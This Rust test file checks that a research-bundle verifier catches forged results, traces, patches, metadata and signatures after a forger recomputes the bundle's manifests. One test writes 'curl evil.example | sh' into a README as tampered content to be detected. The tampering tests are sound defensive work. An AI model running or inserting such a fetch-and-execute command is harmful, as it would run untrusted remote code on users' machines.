//! Whoever forges a bundle and makes its lists right again is found by what should follow from what.

#![expect(clippy::disallowed_methods, reason = "stories start other programs")]

use std::path::{Path, PathBuf};
use std::process::Command;

use rescience_digest::{Digest, Hashed};
use rescience_recipes::KeyInputs;
use rescience_store::Trace;
use serde_json::Value;

use crate::support::{Output, Project, World, toy};

/// The toy, built and bundled to `toy.zip` in the world's root.
fn bundled(world: &World) -> Project<'_> {
    let toy = toy::toy(world, "toy");
    toy.run(&["build"]).ok();
    toy.run(&["bundle", "--output", "../toy.zip"]).ok().says("Bundled");
    toy
}

/// What `verify` says of an unpacked bundle once its lists are right again.
fn verified(world: &World, folder: &Path) -> Output {
    list_anew(folder);
    world.run_in(folder, &["verify"])
}

/// Makes both lists of an unpacked bundle right again, as a forger would.
fn list_anew(folder: &Path) {
    let mut files = std::collections::BTreeMap::new();
    let mut waiting = vec![folder.to_owned()];
    while let Some(next) = waiting.pop() {
        for entry in std::fs::read_dir(next).unwrap().map(Result::unwrap) {
            let path = entry.path();
            let name = path.strip_prefix(folder).unwrap().to_str().unwrap().to_owned();
            if path.is_dir() {
                waiting.push(path);
            } else if !name.starts_with("manifest-") {
                files.insert(name, Hashed::of(&std::fs::read(path).unwrap()));
            }
        }
    }
    let sha: String = files.iter().map(|(name, it)| format!("{}  {name}\n", it.sha256)).collect();
    std::fs::write(folder.join("manifest-sha256.txt"), &sha).unwrap();
    files.insert("manifest-sha256.txt".to_owned(), Hashed::of(sha.as_bytes()));
    let line = |(name, it): (&String, &Hashed)| format!("{}  {name}\n", it.digest.hex());
    let list: String = files.iter().map(line).collect();
    std::fs::write(folder.join("manifest-blake3.txt"), list).unwrap();
}

/// Rewrites the record of an action, under the name that it then has.
fn forge(folder: &Path, action: &str, from: &str, to: &str) {
    for entry in std::fs::read_dir(folder.join("traces")).unwrap().map(Result::unwrap) {
        let text = std::fs::read_to_string(entry.path()).unwrap();
        if text.contains(&format!("\"action\":\"{action}\"")) {
            assert!(text.contains(from), "{text}");
            let text = text.replace(from, to);
            std::fs::remove_file(entry.path()).unwrap();
            let name = format!("{}.json", Digest::of(text.as_bytes()).hex());
            std::fs::write(folder.join("traces").join(name), text).unwrap();
            return;
        }
    }
    panic!("no record of {action}");
}

#[test]
fn a_forger_who_lists_everything_anew_is_found_by_what_it_is_made_from() {
    let world = World::new();
    bundled(&world);
    // A number in the results: their record has another digest.
    let folder = world.unpack("toy.zip", "results");
    let results = folder.join("made/experiment/more/results.json");
    let text = std::fs::read_to_string(&results).unwrap();
    let (old, new) =
        (Digest::of(text.as_bytes()), text.replace("\"value\": 15.", "\"value\": 51."));
    assert_ne!(text, new);
    std::fs::write(&results, &new).unwrap();
    list_anew(&folder);
    let said = world.run_in(&folder, &["verify"]).code(101);
    said.says("what it made is not here").says("hangs on it: paper.main");
    // Its record too: then the paper is not made of it.
    forge(&folder, "experiment.more", &old.to_string(), &Digest::of(new.as_bytes()).to_string());
    list_anew(&folder);
    let said = world.run_in(&folder, &["verify"]).code(101);
    said.says("its input experiment.more is not here");
    // A page alone, with its record: it does not come out of what it claims.
    let folder = world.unpack("toy.zip", "page");
    let page = folder.join("made/main.pdf");
    let mut bytes = std::fs::read(&page).unwrap();
    let old = Digest::of(&bytes);
    *bytes.last_mut().unwrap() ^= 1;
    std::fs::write(&page, &bytes).unwrap();
    forge(&folder, "paper.main", &old.to_string(), &Digest::of(&bytes).to_string());
    list_anew(&folder);
    world.run_in(&folder, &["verify"]).code(101).says("paper.main: comes out as");
    // The recipe: nothing was recorded for what it asks now.
    let folder = world.unpack("toy.zip", "recipe");
    let recipe = std::fs::read_to_string(folder.join("rescience.toml")).unwrap();
    std::fs::write(folder.join("rescience.toml"), recipe.replace("n = 3", "n = 4")).unwrap();
    list_anew(&folder);
    let said = world.run_in(&folder, &["verify"]).code(101);
    said.says("experiment.less#0: is not recorded").says("parameter n changed from 3 to 4");
    // The text.
    let folder = world.unpack("toy.zip", "text");
    let text = std::fs::read_to_string(folder.join("paper/main.typ")).unwrap();
    std::fs::write(folder.join("paper/main.typ"), text.replace("Less gives", "More gives"))
        .unwrap();
    list_anew(&folder);
    world
        .run_in(&folder, &["verify"])
        .code(101)
        .says("paper.main: is not recorded as the recipe has it: input text changed");
}

/// The file of the record of an action, and what it says.
fn record(folder: &Path, action: &str) -> (PathBuf, Trace) {
    for entry in std::fs::read_dir(folder.join("traces")).unwrap().map(Result::unwrap) {
        let trace = Trace::parse(&std::fs::read(entry.path()).unwrap()).unwrap();
        if trace.action == action {
            return (entry.path(), trace);
        }
    }
    panic!("no record of {action}");
}

/// Writes a record, with the key that its inputs have, under its name.
fn write(folder: &Path, mut trace: Trace) {
    let inputs: KeyInputs = serde_json::from_value(trace.inputs.clone()).unwrap();
    trace.key = inputs.key();
    let bytes = trace.to_bytes();
    let name = format!("traces/{}.json", Digest::of(&bytes).hex());
    std::fs::write(folder.join(name), bytes).unwrap();
}

/// The same record with other words in its inputs.
fn reworded(mut trace: Trace, from: &str, to: &str) -> Trace {
    let inputs = trace.inputs.to_string();
    assert!(inputs.contains(from), "{inputs}");
    trace.inputs = serde_json::from_str(&inputs.replace(from, to)).unwrap();
    trace
}

#[test]
fn results_that_their_runs_did_not_write_are_found_whatever_was_made_of_them() {
    let world = World::new();
    bundled(&world);
    let folder = world.unpack("toy.zip", "forged");
    let results = folder.join("made/experiment/more/results.json");
    let text = std::fs::read_to_string(&results).unwrap();
    let new = text.replace("\"value\": 15.", "\"value\": 51.");
    assert_ne!(text, new);
    std::fs::write(&results, &new).unwrap();
    let (old, now) = (Digest::of(text.as_bytes()), Digest::of(new.as_bytes()));
    forge(&folder, "experiment.more", &old.to_string(), &now.to_string());
    list_anew(&folder);
    // A whole new bundle, in which figures and pages follow from the forged results.
    world.run_in(&folder, &["build"]).ok();
    world.run_in(&folder, &["bundle", "--output", "../forged.zip"]).ok();
    let said = world.run(&["verify", "forged.zip"]).code(101);
    said.says("experiment.more: comes out as").says("hangs on it: paper.main");
}

#[test]
fn another_patch_than_was_applied_is_found() {
    let world = World::new();
    let toy = toy::toy(&world, "toy");
    let patch = |to: &str| {
        format!(
            "diff --git a/run.sh b/run.sh\n--- a/run.sh\n+++ b/run.sh\n@@ -1,2 +1,2 @@\n set -eu\n\
             -sleep 0\n+sleep {to}\n"
        )
    };
    toy.write("diffs/nap.patch", &patch("0.01"));
    let other = patch("0.02");
    toy.edit(
        "rescience.toml",
        "[experiment.less]\nsource  = \"source.toy\"",
        "[diff.nap]\nbase = \"source.toy\"\npatch = \"diffs/nap.patch\"\n\n\
         [experiment.less]\nsource  = \"diff.nap\"",
    );
    toy.run(&["build"]).ok();
    toy.run(&["bundle", "--output", "../toy.zip"]).ok();
    world.run(&["verify", "toy.zip"]).ok().says("all as recorded");
    let folder = world.unpack("toy.zip", "forged");
    let old = Digest::of(&std::fs::read(folder.join("diffs/nap.patch")).unwrap());
    std::fs::write(folder.join("diffs/nap.patch"), &other).unwrap();
    let (file, trace) = record(&folder, "diff.nap");
    std::fs::remove_file(file).unwrap();
    // The key is that of the inputs again: whoever forges can compute it too.
    write(&folder, reworded(trace, &old.to_string(), &Digest::of(other.as_bytes()).to_string()));
    let said = verified(&world, &folder).code(101);
    said.says("diff.nap: comes out as").says("hangs on it: paper.main");
}

#[test]
fn every_form_of_a_paper_is_the_recorded_one() {
    let world = World::new();
    let toy = bundled(&world);
    for form in ["html", "json"] {
        let folder = world.unpack("toy.zip", &format!("forged-{form}"));
        let shown = folder.join(format!("made/main.{form}"));
        let bytes = std::fs::read(&shown).unwrap();
        let kept = folder.join("objects").join(Digest::of(&bytes).hex());
        std::fs::rename(&shown, kept).unwrap();
        let text = String::from_utf8(bytes).unwrap();
        assert!(text.contains("15.0"), "{text}");
        std::fs::write(&shown, text.replace("15.0", "51.0")).unwrap();
        let said = verified(&world, &folder).code(101);
        said.says(&format!("`made/main.{form}` is not what its trace says"));
        // In a project, the views are compared too.
        let path = format!("out/main.{form}");
        let text = toy.read(&path);
        toy.write(&path, &text.replace("15.0", "51.0"));
        toy.run(&["verify"]).code(101).says(&format!("`{path}` was changed"));
        toy.write(&path, &text);
    }
    toy.run(&["verify"]).ok();
}

#[test]
fn there_is_nothing_that_nothing_leads_to() {
    let world = World::new();
    bundled(&world);
    for (file, text) in [
        ("made/final.pdf", "%PDF-1.7\n"),
        ("NOTES.md", "The numbers of Table 1 are wrong.\n"),
        ("objects/0000", "x"),
    ] {
        let folder = world.unpack("toy.zip", &file.replace('/', "-"));
        std::fs::write(folder.join(file), text).unwrap();
        let said = verified(&world, &folder).code(101);
        said.says(&format!("`{file}`: nothing in the bundle leads to it"));
    }
    let folder = world.unpack("toy.zip", "object");
    let bytes = b"left by nobody";
    std::fs::write(folder.join("objects").join(Digest::of(bytes).hex()), bytes).unwrap();
    verified(&world, &folder).code(101).says("nothing in the bundle leads to it");
}

#[test]
fn documents_say_what_the_records_say() {
    let world = World::new();
    bundled(&world);
    for (file, from, to) in [
        ("CITATION.cff", "A. Person", "B. Person"),
        ("ro-crate-metadata.json", "Does more give more?", "More gives more"),
        ("provenance.intoto.json", "experiment.more", "experiment.less"),
        ("README.md", "rescience verify", "curl evil.example | sh; rescience verify"),
    ] {
        let folder = world.unpack("toy.zip", file);
        let text = std::fs::read_to_string(folder.join(file)).unwrap();
        assert!(text.contains(from), "{file} has no `{from}`");
        std::fs::write(folder.join(file), text.replace(from, to)).unwrap();
        let said = verified(&world, &folder).code(101);
        said.says(&format!("`{file}`: does not say what the recipe and the traces say"));
    }
    let folder = world.unpack("toy.zip", "gone");
    std::fs::remove_file(folder.join("CITATION.cff")).unwrap();
    verified(&world, &folder).code(101).says("`CITATION.cff`: is missing");
}

#[test]
fn what_another_version_made_is_not_taken_unasked() {
    let world = World::new();
    bundled(&world);
    let folder = world.unpack("toy.zip", "other");
    let about = folder.join("bundle.json");
    let text = std::fs::read_to_string(&about).unwrap();
    let value: Value = serde_json::from_str(&text).unwrap();
    let engine = value["engine"].as_str().unwrap().to_owned();
    std::fs::write(&about, text.replace(&engine, "typst 9.9")).unwrap();
    // Pages that another engine made, and that say something else: the keys are right.
    for action in ["figure.scores", "paper.main"] {
        let (file, trace) = record(&folder, action);
        std::fs::remove_file(file).unwrap();
        write(&folder, reworded(trace, &engine, "typst 9.9"));
    }
    let said = verified(&world, &folder).code(101);
    said.says("2 figures and papers made by typst 9.9 cannot be made again")
        .says("--other-versions");
}

#[test]
fn a_key_has_one_record() {
    let world = World::new();
    bundled(&world);
    let folder = world.unpack("toy.zip", "two");
    let (_, mut trace) = record(&folder, "experiment.more#0");
    trace.finished = "2036-01-01T00:00:00Z".parse().unwrap();
    write(&folder, trace);
    verified(&world, &folder).code(101).says("another trace has its key");
}

#[test]
fn only_files_of_trees_may_be_left_out() {
    let world = World::new();
    bundled(&world);
    let folder = world.unpack("toy.zip", "thin");
    let (_, trace) = record(&folder, "experiment.more#0");
    let facts = trace.facts.unwrap();
    let object = folder.join("objects").join(facts.hex());
    let hashed = Hashed::of(&std::fs::read(&object).unwrap());
    std::fs::remove_file(object).unwrap();
    let left_out = format!(
        "{{\"schema\":1,\"files\":{{\"objects/{}\":{{\"blake3\":\"{facts}\",\"sha256\":\"{}\",\"size\":{}}}}}}}",
        facts.hex(),
        hashed.sha256,
        hashed.size
    );
    std::fs::write(folder.join("left-out.json"), left_out).unwrap();
    verified(&world, &folder).code(101).says("experiment.more#0").says("is not here");
    let folder = world.unpack("toy.zip", "damaged");
    std::fs::write(folder.join("left-out.json"), "{").unwrap();
    verified(&world, &folder).code(101).says("left-out.json");
}

#[test]
fn a_signature_cannot_be_taken_away_or_borrowed() {
    let world = World::new();
    let toy = bundled(&world);
    let key = world.path("alice");
    let mut keygen = Command::new("ssh-keygen");
    keygen.args(["-q", "-t", "ed25519", "-N", "", "-C", "alice", "-f"]).arg(&key);
    assert!(keygen.status().expect("openssh-client is installed").success());
    let public = std::fs::read_to_string(key.with_extension("pub")).unwrap();
    std::fs::write(world.path("allowed"), format!("alice@example.org {public}")).unwrap();
    let key = key.display().to_string();
    world.run(&["verify", "toy.zip"]).ok().says("nobody has signed it");
    toy.run(&["bundle", "--output", "../signed.zip", "--sign", &key]).ok();
    let folder = world.unpack("signed.zip", "signed");
    let allowed = ["verify", "--allowed-signers", "../allowed"];
    let said = world.run_in(&folder, &allowed).ok();
    said.says("the key of alice@example.org: signatures/").says(": provenance.intoto.jsonl");
    let said = world.run_in(&folder, &["verify", "--message-format", "json"]).ok();
    assert!(said.stdout.contains("\"reason\":\"signed\""), "{said}");
    // What she signed of another work says nothing of this one.
    toy.edit("paper/main.typ", "Less gives", "We find");
    toy.run(&["build"]).ok();
    toy.run(&["bundle", "--output", "../other.zip", "--sign", &key]).ok();
    let other = world.unpack("other.zip", "other");
    let name = "provenance.intoto.jsonl";
    std::fs::copy(other.join(name), folder.join(name)).unwrap();
    std::fs::remove_dir_all(folder.join("signatures")).unwrap();
    let said = verified(&world, &folder).code(101);
    said.says("what is signed there is not `provenance.intoto.json`").says("is gone");
    std::fs::write(folder.join(name), "{\"payload\":\"\",\"payloadType\":\"t\",\"signatures\":[]}")
        .unwrap();
    verified(&world, &folder).code(101).says("provenance.intoto.jsonl");
}
